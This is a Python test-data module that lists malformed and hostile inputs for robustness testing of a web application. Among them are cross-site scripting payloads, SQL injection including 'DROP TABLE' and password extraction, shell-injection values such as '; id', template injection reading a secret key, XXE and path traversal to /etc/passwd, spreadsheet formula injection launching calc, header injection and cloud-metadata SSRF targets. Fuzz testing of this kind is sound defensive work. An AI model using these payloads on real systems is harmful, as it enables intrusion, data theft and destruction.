"""What nobody should type, and somebody will: texts and bytes that broke programs like this one.

Each is a str, or bytes where it is no text at all; NASTIES names every one of them once, with its kind.
"""

# fmt: off
CONTROL = [f"egg{chr(code)}milk" for code in (*range(32), 127, 0x85, 0xA0, 0xAD)]
INVISIBLE = [
    f"egg{chr(code)}milk"
    for code in (*range(0x200B, 0x2010), *range(0x2028, 0x202F), *range(0x2066, 0x206A), 0xFEFF, 0xFFFD, 0xFFFF)
]
BYTES = [
    b'\xff', b'\xfe\xff', b'\xed\xa0\x80', b'\xed\xb0\x80', b'\xc0\x80', b'\xc3(', b'\xf5\x80\x80\x80', b'egg\x80',
    b'\xe2\x82', b'\xf0\x9f\x92', b'\xef\xbb\xbfegg', b'\xff\xfee\x00g\x00', b'%', b'%zz', b'%u0041',
]
NUMBERS = [
    "0", "-0", "-1", "+1", "1.", ".5", "1,5", "1.5.5", "1,000", "1.000", "1 000", "1'000", "1_000", "0x10", "0b1",
    "0o7", "1e3", "1E3", "1e-9", "1e999", "-1e999", "1e999999999", "1e-999999999", "NaN", "nan", "-nan", "sNaN",
    "inf", "-inf", "Infinity", "INF", "1" + "0" * 30, "-1" + "0" * 30, str(2**31), str(2**31 - 1), str(2**63),
    str(2**63 - 1), str(-(2**63)), str(2**64), "9" * 400, "9" * 5000, "0." + "0" * 400 + "1", "0" * 5000 + "1", "１２",
    "٣", "१२", "二", "Ⅷ", "²", "①", "½", "1½", "1/0", "0/0", "1/3", "1//2", "1/2/3", "−1", "--1", "1-", "$1", "1%",
    "1e", "e1", "∞", "true", "null", "None", "undefined", "[]", "{}",
]
DAYS = [
    "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-02-30", "2026-13-01", "2026-00-10",
    "1900-02-29", "2026-1-1", "20260101", "01/02/2026", "２０２６-01-01", "٢٠٢٦-٠١-٠١", "2026-11-18T25:61", "2026-W54",
    "2026-W00", "0000-W01", "9999-W53", "1969-12-31", "2038-01-19", "25:00", "24:00", "-1:00", "12:60", "12:00:61",
    "2026-11-18 00:00:00+99:99",
]
MARKUP = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    '<img src="x" onerror="alert(1)">', '<a href="javascript:alert(1)">x</a>', "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "<style>body{display:none}</style>",
    "<iframe src=//evil.example></iframe>", '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<b hx-get=/accounts/logout/ hx-trigger=load>", '<div hx-on:click="alert(1)">',
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>",
    "<form action=//evil.example><input name=key>", "&lt;b&gt;", "&#60;b&#62;", "&amp;amp;", "<", ">", '"', "'", "`",
    '"\'`<>', "<!--", "-->", "<![CDATA[", '<?xml version="1.0"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '" onfocus=alert(1) autofocus="',
    "' style='x:expression(alert(1))", '\\"><script>', "\\u003cscript\\u003e",
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scR'
    'ipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>',
]
TEMPLATES = [
    "{{7*7}}", "{{ 7|add:7 }}", "{% debug %}", "{% include '/etc/passwd' %}", "{{ settings.SECRET_KEY }}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__}}", "{#", "{%", "{{", "}}", "%s%s%s%n", "%(password)s", "%d", "%",
    "{0}", "{}", "{0.__class__}", "{", "}", "$(id)", "`id`", "; id", "| id", "&& id",
]
QUERIES = [
    "' OR '1'='1", "'; DROP TABLE diary_entry; --", '" OR ""="', "1; SELECT pg_sleep(5)",
    "1 UNION SELECT password FROM accounts_user", "' || (SELECT 1) || '", "\\'; --", "%' --", "_", "%%", "*", "?",
    "[a-z]", "(", ")", "(((((((((((((((((((((((((((((((((((((", "\\", "\\\\", "^", "$", "a*b", '"unclosed',
    "NEAR(egg milk)", "egg OR", "egg AND", "NOT egg", "egg:*", "egg & ", "! egg", "-egg", "egg -", "col:egg",
    "*)(uid=*",
]
CELLS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\xa0=1+1", "＝1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("//evil.example")', "a,b;c\td", '"a""b"', '"never closed', "a\r\nb,c",
]
LINES = [
    "egg\r\nSet-Cookie: sid=evil", "egg\nmilk", "egg\rmilk", "egg%0d%0aX: y", "egg\r\n\r\n<html>", "\n", "\r\n", "\t",
    " ", "\u3000", "   egg   ",
]
PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd",
    "....//....//etc/passwd", "%2e%2e%2fetc%2fpasswd", "..%c0%af..", "/dev/zero", "con", "aux.csv", "a/b", "a\\b",
    ".", "..", "~", "//evil.example", "\\\\evil.example", "https://evil.example/", "http:evil", "/\\evil.example",
    "///evil.example", "?next=//evil.example", "http://127.0.0.1:22/", "http://169.254.169.254/",
]
SHAPES = [
    "[" * 2000 + "]" * 2000, '{"a":' * 500 + "1" + "}" * 500, '{"a":1e999}', '{"a":NaN}', "[1,", '{"a":1,"a":2}',
    '"\\ud800"', '{"__proto__":{"x":1}}',
]
WORDS = [
    "🥑", "👩\u200d👩\u200d👧\u200d👦", "🇪🇸", "é", "é", "İ", "ı", "ß", "ﬁ", "Ω", "ﷺ", "𝕖𝕘𝕘", "Z̷̢̛͎a̶l̴g̵o", "עברית",
    "العربية", "日本語", "ไทย", "egg" + "\u0301" * 300, "O'Brien", "D’Arcy", "null", "None", "NULL", "constructor",
    "__proto__", "__class__", "admin", "user@example.org", "a@b@c", '"a b"@example.org', "x@" + "y" * 300 + ".org",
    "on", "off",
]
LONG = [
    "egg " * 60, "x" * 256, "x" * 1001, "x" * 5000, "x" * 70_000, "egg, " * 4000, "a" * 30 + "!", "1 " * 3000,
    "½" * 500, "(" * 3000, "/" * 2000, "\n" * 3000,
]
# fmt: on
KINDS: dict[str, list[str] | list[bytes]] = {
    "control": CONTROL,
    "invisible": INVISIBLE,
    "bytes": BYTES,
    "number": NUMBERS,
    "day": DAYS,
    "markup": MARKUP,
    "template": TEMPLATES,
    "query": QUERIES,
    "cell": CELLS,
    "line": LINES,
    "path": PATHS,
    "shape": SHAPES,
    "word": WORDS,
    "long": LONG,
}  # fmt: skip
NASTIES: list[tuple[str, str | bytes]] = [
    (kind, nasty) for nasty, kind in {nasty: kind for kind, nasties in KINDS.items() for nasty in nasties}.items()
]
